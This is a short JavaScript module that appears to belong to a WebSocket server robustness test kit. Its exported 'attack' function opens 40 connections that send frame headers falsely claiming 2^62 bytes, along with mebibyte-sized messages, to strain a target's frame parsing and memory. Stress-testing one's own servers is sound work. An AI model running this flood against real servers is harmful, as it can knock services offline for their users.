// Frames that claim to be larger than anything, and messages as large as they may be.
import { crowd, frame, push, webSocket } from '../kit.mjs';

export const about = '40 connections send frames of 2^62 bytes and messages of a mebibyte';

const mebibyte = Buffer.alloc((1 << 20) - 1, 0x20);

export const attack = (target) =>
  crowd(target, 40, async (life) => {
    const socket = await webSocket(life, { identify: life.id % 2 === 0 });
    if (life.id % 4 === 1) {
      const head = frame('', { opcode: 2, size: 70000 });
      head.writeBigUInt64BE(1n << 62n, 2);
      await push(socket, head);
      await push(socket, mebibyte);
    } else {
      await push(socket, frame(mebibyte, { opcode: life.id % 3 === 0 ? 1 : 2 }));
    }
    await Promise.race([socket.ended, new Promise((done) => setTimeout(done, 200))]);
    socket.destroy();
  });
